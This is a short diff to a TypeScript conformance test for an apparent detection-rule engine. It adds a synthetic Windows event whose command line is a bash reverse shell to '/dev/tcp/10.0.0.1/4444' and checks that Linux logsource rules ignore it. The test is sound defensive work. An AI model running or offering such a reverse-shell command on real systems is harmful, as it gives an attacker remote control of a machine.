@@ -93,6 +93,8 @@ export function runEngineConformance(options: EngineConformanceOptions): void {
       assert.deepEqual(found, ['33333333-3333-4333-8333-333333333333', '44444444-4444-4444-8444-444444444444']);
       const exit = { ...processStart('/usr/bin/python3', 'python3 x.py'), 'event.action': 'exit' };
       assert.deepEqual(engine.evaluate([exit]), [], 'process_creation covers process starts only');
+      const windows = { ...processStart('C:\\Windows\\System32\\bash.exe', 'bash -i >& /dev/tcp/10.0.0.1/4444'), 'winlog.channel': 'Microsoft-Windows-Sysmon/Operational' };
+      assert.deepEqual(engine.evaluate([windows]), [], 'Linux logsources never see Windows events');
     });
 
     test('an AND of two literal sets needs both; events in one call keep their order', () => {
